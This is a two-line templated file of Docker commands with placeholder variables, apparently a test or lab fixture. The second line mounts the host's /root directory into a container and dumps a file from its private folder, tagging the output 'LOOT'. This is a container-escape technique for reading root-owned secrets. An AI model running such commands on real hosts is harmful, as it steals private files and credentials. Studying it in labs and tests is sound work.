docker run -d --name {{ child }} busybox sleep {{ seconds }}
docker run --rm -v /root:/victim busybox sed 's/^/LOOT /' /victim/private/{{ file }}
